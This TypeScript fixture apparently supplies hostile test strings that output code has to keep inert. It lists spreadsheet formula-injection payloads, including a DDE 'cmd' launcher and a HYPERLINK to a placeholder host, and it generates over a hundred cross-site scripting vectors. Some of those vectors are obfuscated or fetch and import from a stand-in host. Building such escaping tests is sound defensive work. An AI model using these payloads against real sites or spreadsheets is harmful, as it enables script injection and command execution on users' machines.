/** Texts that some program takes for a formula. */
const FORMULAS = [
  '=1+1',
  '=HYPERLINK("http://x.invalid","y")',
  "+cmd|'/c calc'!A0",
  '-2+3',
  '@SUM(1)',
  '\t=1',
  '\r=1',
  '＝1+1',
  '＋1',
  '－1',
  '＠A1',
  "='[x.xls]S'!A1",
];

/** Markup that some page takes for its own; the shapes of the well-known lists. */
const SHAPES: readonly ((run: string) => string)[] = [
  (run) => `<script>${run}</script>`,
  (run) => `<img src=x onerror=${run}>`,
  (run) => `"><svg onload=${run}>`,
  (run) => `'><iframe src="javascript:${run}">`,
  (run) => `<style>@import'javascript:${run}'</style>`,
  (run) => `</title></style><body onload=${run}>`,
  (run) => `<a href="javascript:${run}">x</a>`,
  (run) => `<input autofocus onfocus=${run}>`,
  (run) => `<!--<img src="--><img src=x onerror=${run}//">`,
  (run) => `<math><a xlink:href="javascript:${run}">x`,
  (run) => `<details open ontoggle=${run}>`,
  (run) => `</text></svg><script>${run}//`,
  (run) => `<base href="javascript:${run}//">`,
];
const RUNS = [
  'alert(1)',
  'alert`1`',
  'top["al"+"ert"](1)',
  '&#97;lert(1)',
  'eval(atob("YWxlcnQoMSk="))',
  'fetch("//x.invalid")',
  'import("//x.invalid")',
  '\\u0061lert(1)',
];

/** A hundred texts and more that must stay texts wherever they come out. */
export const HOSTILE: readonly string[] = [...FORMULAS, ...SHAPES.flatMap((shape) => RUNS.map(shape))];
